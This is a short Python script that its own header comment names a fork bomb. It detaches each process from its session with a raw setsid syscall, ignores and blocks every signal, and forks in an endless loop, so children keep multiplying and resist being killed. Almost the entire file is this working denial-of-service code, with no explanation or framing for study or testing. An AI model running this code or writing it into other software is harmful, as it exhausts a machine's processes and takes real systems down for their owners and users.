# A fork bomb whose children leave the session, ignore every signal and fork again when their parents go.
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None, use_errno=True)
SETSID = 112


def immune():
    libc.syscall(SETSID)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))


def train(lab):
    immune()
    while True:
        try:
            if os.fork() == 0:
                immune()
        except OSError:
            time.sleep(0.001)
